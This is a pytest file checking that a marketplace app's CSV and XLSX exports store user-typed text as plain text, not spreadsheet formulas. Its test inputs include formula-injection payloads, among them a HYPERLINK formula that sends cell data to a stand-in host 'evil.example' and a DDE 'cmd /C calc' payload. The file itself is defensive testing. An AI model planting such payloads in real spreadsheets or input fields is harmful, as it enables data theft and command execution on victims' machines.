"""No text a member typed is ever written into a spreadsheet as a formula: every export keeps it as text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from marketplace.extensions import db
from marketplace.models import Segment
from marketplace.services import bid_sheet, demand, demand_upload, reports, spreadsheet
from tests.demand_helpers import open_round, valid_values
from tests.factories import make_model, make_tender
from tests.report_helpers import report_round

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]


def formulas_in(data: bytes) -> list[str]:
    """Every formula element in every sheet of an XLSX, straight from its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))
        ]


def text_cells(data: bytes) -> dict[str, tuple[str, bool]]:
    """Every string cell's value -> (data type, quote prefix)."""
    book = load_workbook(io.BytesIO(data))
    return {
        c.value: (c.data_type, c.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def test_the_helper_escapes_what_a_spreadsheet_would_run_and_leaves_numbers():
    assert [spreadsheet.csv_value(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [spreadsheet.csv_value(v) for v in ("-12.50", "+3", "1e5", "plain", 7, None)] == [
        "-12.50", "+3", "1e5", "plain", 7, None,
    ]  # fmt: skip


def test_the_bid_sheet_writes_model_names_as_text(world):
    rnd, _ = make_tender(world.coordinator, world.fleet.organization)
    make_model(world.oem.organization, name=HOSTILE[0], code="evil_1")
    data = bid_sheet.build_sheet(rnd, world.oem)
    assert formulas_in(data) == []
    assert text_cells(data)[HOSTILE[0]] == ("s", True)


def test_the_demand_export_and_template_keep_notes_and_names_as_text(world):
    rnd = open_round(world, region_ids=["US-CA"], name="=1+1 round")
    notes = [demand.create_line(rnd.id, valid_values(note=note), world.fleet).note for note in HOSTILE[:4]]
    data = demand_upload.export_xlsx(rnd, demand.lines_of(rnd, world.fleet))
    assert formulas_in(data) == []
    cells = text_cells(data)
    assert all(cells[note] == ("s", True) for note in notes)
    segment = db.session.execute(sa.select(Segment).where(Segment.id == rnd.segments[0].id)).scalar_one()
    segment.name = "=WEBSERVICE(1)"
    assert formulas_in(demand_upload.template_xlsx(rnd)) == []
    assert text_cells(demand_upload.template_xlsx(rnd))["=WEBSERVICE(1)"] == ("s", True)


@pytest.mark.commits  # the read-model store writes on a connection of its own (tests/conftest.py)
def test_the_round_report_escapes_names_in_csv_and_xlsx(world):
    made = report_round(world, "contracting")
    segment = db.session.execute(sa.select(Segment).where(Segment.id == "md_box_truck")).scalar_one()
    segment.name = "=HYPERLINK(1)"
    report = reports.round_report(made.round)
    rows = list(csv.reader(io.StringIO(reports.report_csv(report))))
    assert "'=HYPERLINK(1)" in [cell for row in rows for cell in row]
    assert "=HYPERLINK(1)" not in [cell for row in rows for cell in row]
    data = reports.report_xlsx(report)
    assert formulas_in(data) == [] and text_cells(data)["=HYPERLINK(1)"] == ("s", True)
